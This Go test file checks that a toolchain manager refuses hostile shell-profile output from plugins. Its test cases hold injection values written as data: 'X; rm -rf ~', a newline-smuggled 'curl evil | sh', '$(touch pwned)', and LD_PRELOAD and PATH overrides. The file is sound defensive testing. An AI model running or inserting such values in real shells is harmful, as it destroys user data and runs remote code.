package toolchain

import (
	"context"
	"strings"
	"testing"

	"github.com/tote-dev/tote/api"
	"github.com/tote-dev/tote/plugins/pluginhost"
)

// What a hostile sync_shell_profile asks for is refused with the plugin,
// the function and the value; the install itself stands.
func TestSyncShellProfileHostile(t *testing.T) {
	t.Parallel()
	cases := []struct {
		out  api.SyncShellProfileOutput
		want string
	}{
		{api.SyncShellProfileOutput{CheckVar: "X; rm -rf ~", ExportVars: map[string]string{"X": "1"}}, `check_var "X; rm -rf ~" is not a variable name`},
		{api.SyncShellProfileOutput{CheckVar: "X", ExportVars: map[string]string{"TOTE_TRUSTED_PATHS": "/"}}, "may not set in your shell profile"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExportVars: map[string]string{"LD_PRELOAD": "/tmp/x.so"}}, "may not set in your shell profile"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExportVars: map[string]string{"PATH": "/evil"}}, "may not set in your shell profile"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExportVars: map[string]string{"A B": "1"}}, "is not a variable name"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExportVars: map[string]string{"X": "1\ncurl evil | sh"}}, "control character"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExtendPath: []string{"."}}, "is neither an absolute path"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExtendPath: []string{"bin"}}, "is neither an absolute path"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExtendPath: []string{"/ok:."}}, "path list separator"},
		{api.SyncShellProfileOutput{CheckVar: "X", ExtendPath: []string{"$(touch pwned)"}}, "is neither an absolute path"},
	}
	for _, c := range cases {
		e := newEnv(t, map[string][]string{"alpha": {"1.0.0"}})
		out := c.out
		e.builtins["alpha"].Table[api.FuncSyncShellProfile] = pluginhost.Handle(func(ctx context.Context, h pluginhost.Host, in api.SyncShellProfileInput) (api.SyncShellProfileOutput, error) {
			return out, nil
		})
		m := e.manager()
		tool, err := m.Tool(context.Background(), "alpha")
		if err != nil {
			t.Fatal(err)
		}
		_, err = m.syncShellProfile(context.Background(), tool, "1.0.0", nil)
		if err == nil || !strings.Contains(err.Error(), c.want) || !strings.Contains(err.Error(), `plugin "alpha" function sync_shell_profile`) {
			t.Errorf("%+v: err = %v, want %q", c.out, err, c.want)
		}
		res, err := m.InstallVersion(context.Background(), "alpha", "1.0.0", InstallOptions{})
		if err != nil || res.ShellProfile != nil {
			t.Errorf("%+v: install = %+v, %v", c.out, res, err)
		}
	}
}

// A virtual path in a value is made real; the grant comes from [tools.<id>].
func TestSyncShellProfileValues(t *testing.T) {
	t.Parallel()
	e := newEnv(t, map[string][]string{"alpha": {"1.0.0"}})
	e.builtins["alpha"].Table[api.FuncSyncShellProfile] = pluginhost.Handle(func(ctx context.Context, h pluginhost.Host, in api.SyncShellProfileInput) (api.SyncShellProfileOutput, error) {
		return api.SyncShellProfileOutput{CheckVar: "ALPHA_HOME", ExportVars: map[string]string{"ALPHA_HOME": in.Context.ToolDir.Path}, ExtendPath: []string{"$ALPHA_HOME/bin", "${ALPHA_HOME}/x"}}, nil
	})
	e.writeGlobal("[tools.alpha]\npermissions = [\"shell-profile\"]\n")
	m := e.manager()
	res, err := m.InstallVersion(context.Background(), "alpha", "1.0.0", InstallOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := res.ShellProfile
	if p == nil || !p.Granted || len(p.Vars) != 1 || p.Vars[0][1] != m.Store.VersionDir("alpha", "1.0.0") || len(p.Paths) != 2 {
		t.Fatalf("profile = %+v", p)
	}
}
